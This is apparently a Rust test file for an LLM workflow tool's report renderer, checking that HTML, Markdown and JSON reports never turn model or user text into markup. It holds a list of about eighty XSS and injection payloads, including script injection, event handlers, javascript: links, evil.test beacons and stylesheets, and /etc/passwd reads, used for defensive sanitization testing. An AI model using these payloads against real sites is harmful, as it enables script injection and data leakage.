//! The promise: what a run did can be read by who was not there, as one page that asks for nothing, as Markdown and as JSON; and
//! what a model, a person or a file has written is never markup in it.

use insta::assert_snapshot;
use nietz::schema::{Schema, builtin};
use serde_json::Value;

use crate::support::env::Env;
use crate::support::model_server::{ModelServer, Response};

const FLOW: &str = r#"
local clock = require("@nietz/clock")
local documents = require("@nietz/documents")
local llm = require("@nietz/llm")
local nietz = require("@nietz")
local ui = require("@nietz/ui")
return nietz.flow {
  name = "two", summary = "Asks, thinks, writes down", host_api = 2,
  params = { about = { type = "string", positional = true, required = true }, deep = { type = "boolean", default = false } },
  permissions = { llm = true },
  collections = { notes = {
    path = "notes/{slug}.yaml", keys = { slug = "/slug" },
    schema = { type = "object", properties = { slug = { type = "string" }, text = { type = "string" } } },
  } },
  run = function(ctx)
    ui.say("Let us think about *" .. ctx.params.about .. "*.", { from = "Ada" })
    local who = ui.ask { id = "who", prompt = "For whom?" }
    local reply = llm.chat { prompt = "For " .. who, label = "Grace", stream = true }
    documents.collection("notes"):save { slug = "a", text = reply.text }
    documents.collection("notes"):save { slug = "a", text = who }
    return { text = reply.text, at = clock.now() }
  end,
  report = function(run)
    return {
      { type = "cards", cards = { { name = "Words", value = #run.result.text } } },
      { type = "table", title = "Notes", columns = { "slug", "text" }, rows = { { "a", run.documents.notes[1].value.text } } },
      { type = "curve", title = "Ripe", steps = { "1", "2", "3" }, lines = { { name = "all", values = { 1, 2.5, 4 } } } },
      { type = "bars", title = "Bars", bars = { { name = "x", value = 3 } } },
      { type = "tree", title = "Tree", nodes = { { name = "root", status = "good", nodes = { { name = "leaf", status = "bad" } } } } },
      { type = "timeline", title = "When", events = { { at = "first", who = "Ada", text = "**began**" } } },
      { type = "diff", title = "Diff", diff = "--- a\n+++ b\n@@ -1 +1 @@\n-old\n+new\n" },
      { type = "text", title = "Text", text = "Said *well*." },
    }
  end,
}"#;

fn ran(about: &str, answer: &str, reply: &'static str) -> Env {
    let server = ModelServer::start(move |_| Response::text(reply).usage(100, 7));
    let env = Env::with(&server).flow("two", FLOW);
    env.run(["two", about]).stdin(format!("{answer}\n")).go().exits(0);
    env
}

fn page(env: &Env) -> String {
    env.nietz(["report", "-o", "page.html"]).go().exits(0);
    env.read("page.html")
}

/// The names of all elements, and the attributes that stand in them.
pub(super) fn elements(page: &str) -> Vec<(String, String)> {
    let body = page.replace("<!doctype html>", "");
    let tags = body.split('<').skip(1).filter_map(|rest| rest.split_once('>'));
    let named = tags.map(|(tag, _)| match tag.split_once(|c: char| c.is_whitespace()) {
        Some((name, attributes)) => (name.to_owned(), attributes.to_owned()),
        None => (tag.to_owned(), String::new()),
    });
    named.filter(|(name, _)| !name.starts_with('/')).collect()
}

#[test]
fn a_page_has_all_of_a_run_and_asks_for_nothing() {
    let env = ran("tea & <b>milk</b>", "us all", "Brew it *slowly*.");
    let page = page(&env);
    // The template writes these as numbers, too.
    let shown = page.replace("&#x2f;", "/").replace("&#x27;", "'");
    for part in [
        "<h1>tea &amp; &lt;b&gt;milk&lt;/b&gt;</h1>",
        "<em>slowly</em>",
        "Ada",
        "Grace",
        "us all",
        "notes/a.yaml",
        "100 in, 7 out",
        "<polyline",
        "<b>first</b> Ada",
        "<span class=\"old\">-old</span>",
        "✗</span> leaf",
    ] {
        assert!(shown.contains(part), "{part} is missing in {shown}");
    }
    assert!(page.contains("content=\"default-src 'none'; style-src 'sha256-"), "{page}");
    let elements = elements(&page);
    let foreign = ["script", "img", "link", "iframe", "object", "embed", "form", "base", "video", "audio", "source"];
    assert!(!elements.iter().any(|(name, _)| foreign.contains(&name.as_str())), "{elements:?}");
    for (name, attributes) in &elements {
        assert!(!attributes.contains("style="), "the policy allows no style of an element: {name} {attributes}");
        assert!(!attributes.contains("src=") || name == "meta", "{name} {attributes}");
    }
    // Each address on the page leads somewhere on it.
    let targets = page.split("href=\"#").skip(1).filter_map(|rest| rest.split('"').next());
    for target in targets {
        assert!(page.contains(&format!("id=\"{target}\"")), "#{target} leads nowhere");
    }
}

/// What would run, fetch or show something that is not of this page, if it were markup in it.
pub(super) const PAYLOADS: [&str; 80] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "</pre></details><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert%281%29)",
    "[x](JaVaScRiPt:alert)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "![x](https://evil.test/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<https://ok.test/\"onmouseover=alert(1)>",
    "[x](https://ok.test/\"onmouseover=\"alert(1))",
    "[x]: https://evil.test \"onload=alert(1)\"",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onclick='alert(1)",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=https://evil.test><input name=q>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href=https://evil.test/>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "`<script>`\n\n```html\n<script>alert(1)</script>\n```",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{202e}evil\u{2066}",
    "<details open ontoggle=alert(1)>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\t>alert(1)</script\n>",
    "<script/src=//evil.test/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)>",
    "<img srcset='https://evil.test/a 1x'>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href=\"https://evil.test/x.svg#a\"/></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
    "<svg><style>@import 'https://evil.test/x.css';</style></svg>",
    "<style>*{background:url(https://evil.test/a)}</style>",
    "<p style=\"background:url(https://evil.test/b)\">x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<html manifest=https://evil.test>",
    "<object data=javascript:alert(1)>",
    "<embed src=https://evil.test/x.swf>",
    "<applet code=x>",
    "<frameset><frame src=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onfocus=alert(1)></select>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1)>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "[x](  javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](blob:https://evil.test/x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.test/x)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x][z]\n\n[z]: https://evil.test/pixel.png",
    "<javascript:alert(1)>",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "]]><script>alert(1)</script>",
];

#[test]
fn what_others_wrote_is_never_markup() {
    let all = PAYLOADS.join("\n\n");
    let reply: &'static str = Box::leak(all.clone().into_boxed_str());
    let env = ran(&all, &all.replace('\n', " "), reply);
    let page = page(&env);
    let allowed = [
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "a",
        "header",
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "dl",
        "div",
        "dt",
        "dd",
        "small",
        "nav",
        "main",
        "section",
        "article",
        "details",
        "summary",
        "pre",
        "code",
        "span",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "svg",
        "line",
        "rect",
        "text",
        "polyline",
        "circle",
        "ul",
        "ol",
        "li",
        "b",
        "em",
        "strong",
        "del",
        "br",
        "br/",
        "hr",
        "blockquote",
        "footer",
        "input",
    ];
    for (name, attributes) in elements(&page) {
        assert!(allowed.contains(&name.trim_end_matches('/')), "<{name} {attributes}>");
        let names = attributes.split('"').step_by(2).flat_map(|part| part.split_whitespace());
        for attribute in names.filter(|word| word.ends_with('=')) {
            assert!(!attribute.starts_with("on"), "<{name} {attributes}>");
        }
        if let Some((_, target)) = attributes.split_once("href=\"") {
            assert!(
                ["#", "https://", "http://", "mailto:"].iter().any(|start| target.starts_with(start)),
                "{attributes}"
            );
        }
    }
    assert!(!page.contains('\u{202e}'), "nothing turns the direction of the text");
    let markdown = env.nietz(["report", "--markdown"]).go().exits(0).stdout;
    // A comment stands behind each @, so that nobody is called by name.
    let markdown = markdown.replace("<!-- -->", "");
    assert!(!markdown.contains('<') && !markdown.contains("!["), "{markdown}");
}

#[test]
fn markdown_fits_a_pull_request() {
    let env = ran("tea", "us all, @ada", "Brew it *slowly*.");
    let markdown = env.nietz(["report", "--markdown"]).go().exits(0).stdout;
    let (head, rest) = markdown.split_once(" · 20").expect("the date stands behind the run");
    let rest = rest.split_once('\n').expect("lines follow").1;
    assert_snapshot!(format!("{head}\n{rest}"), @r#"
    ## two: tea

    done · Model calls: 1, Tokens: 107 · `r1`

    ### What came out

    - at: 2026-01-09T10:30:00Z

    ### Conversation

    **Ada**

    > Let us think about *tea*.

    > For whom?

    **Answer**

    > us all, @<!-- -->ada

    **Grace**

    > Brew it *slowly*.

    ### Documents

    - notes/a.yaml
    "#);
}

#[test]
fn json_is_what_its_schema_says() {
    let env = ran("tea", "us all", "Brew it *slowly*.");
    let json = env.nietz(["report", "--json"]).go().exits(0).stdout;
    let value: Value = serde_json::from_str(&json).expect("it is JSON");
    let schema = Schema::compile(&builtin::REPORT.schema().unwrap()).unwrap();
    assert_eq!(schema.violations(&value), []);
    let speakers: Vec<_> = value["cost"].as_array().unwrap().iter().map(|share| &share["speaker"]).collect();
    assert_eq!(speakers, ["Grace"]);
    assert_eq!((&value["flow"], &value["status"]), (&"two".into(), &"done".into()));
    assert_eq!(value["documents"][0]["changes"][0]["lines"].as_array().map(Vec::len), Some(2), "{value}");
}

#[test]
fn attempts_that_failed_are_told_with_their_waits() {
    let calls = std::sync::atomic::AtomicUsize::new(0);
    let server = ModelServer::start(move |_| match calls.fetch_add(1, std::sync::atomic::Ordering::SeqCst) {
        0 => Response::error(429, "slow down").header("retry-after-ms", "20"),
        1 => Response::error(500, "<b>oops</b>"),
        _ => Response::text("Brew it slowly."),
    });
    let env = Env::with(&server).flow("two", FLOW);
    env.run(["two", "tea"]).stdin("us all\n").go().exits(0);
    let json: Value = serde_json::from_str(&env.nietz(["report", "--json"]).go().exits(0).stdout).expect("JSON");
    assert_eq!((&json["cost"][0]["calls"], &json["cost"][0]["again"]), (&1.into(), &2.into()), "{json}");
    let call = json["effects"].as_array().unwrap().iter().find(|effect| effect["kind"] == "chat").expect("a call");
    let retries = call["outcome"]["retries"].as_array().expect("its failed attempts");
    assert!(retries[0]["wait_ms"].as_u64() >= Some(20), "{retries:?}");
    assert!(retries[0]["reason"].as_str().unwrap().contains("429"), "{retries:?}");
    let page = page(&env);
    assert!(page.contains("2 asked again after a failure"), "{page}");
    assert!(page.contains("oops") && !page.contains("<b>oops"), "{page}");
}

#[test]
fn what_broke_off_and_was_asked_again_is_counted() {
    let calls = std::sync::atomic::AtomicUsize::new(0);
    let server = ModelServer::start(move |_| {
        let reply = Response::text("Brew it slowly, and then wait for it.").usage(100, 7);
        match calls.fetch_add(1, std::sync::atomic::Ordering::SeqCst) {
            // Behind the first piece.
            0 => reply.cut_after(330),
            _ => reply,
        }
    });
    let env = Env::with(&server).flow("two", FLOW);
    env.run(["two", "tea"]).stdin("us all\n").go().exits(0);
    let json: Value = serde_json::from_str(&env.nietz(["report", "--json"]).go().exits(0).stdout).expect("JSON");
    assert_eq!((&json["cost"][0]["calls"], &json["cost"][0]["again"]), (&1.into(), &1.into()), "{json}");
    assert!(page(&env).contains("1 asked again after a failure"));
}

#[test]
fn a_flow_s_own_part_that_cannot_be_shown_is_said_and_the_rest_stays() {
    for (broken, why) in [
        ("error(\"no figures\")", "no figures"),
        ("return { { type = \"html\", text = \"<b>\" } }", "block 1: unknown variant `html`"),
        ("return { { type = \"text\", text = \"x\", style = \"red\" } }", "block 1: unknown field `style`"),
        ("require(\"@nietz/clock\").now() return {}", "may only compute"),
    ] {
        let server = ModelServer::start(|_| Response::text("Yes."));
        let begin = FLOW.find("  report = function").unwrap();
        let flow = format!("{}  report = function(run) {broken} end,\n}}", &FLOW[..begin]);
        let env = Env::with(&server).flow("two", &flow);
        env.run(["two", "tea"]).stdin("us\n").go().exits(0);
        let ended = env.nietz(["report", "-o", "page.html"]).go().exits(0);
        assert!(ended.stderr.contains(why), "{}", ended.stderr);
        let page = env.read("page.html");
        assert!(page.contains("class=\"failure\"") && page.contains("Yes."), "{page}");
    }
}

#[test]
fn a_very_long_run_is_data_with_one_script_that_the_page_s_policy_names() {
    let flow = r#"
    local nietz = require("@nietz")
    local ui = require("@nietz/ui")
    return nietz.flow { name = "long", summary = "Says much", run = function()
      for index = 1, 2100 do ui.say("line </script><script>alert(" .. index .. ")</script>") end
    end }"#;
    let env = Env::new().flow("long", flow);
    env.run(["long"]).go().exits(0);
    let page = page(&env);
    let data = page.matches("<script type=\"application/json\">").count();
    assert!(data > 5, "what is not on the screen is read later: {data}");
    assert_eq!(page.matches("<script").count(), data + 1, "the data and the script that shows it");
    assert_eq!(page.matches("</script>").count(), data + 1);
    assert!(page.contains("; script-src 'sha256-"), "the policy names it");
}
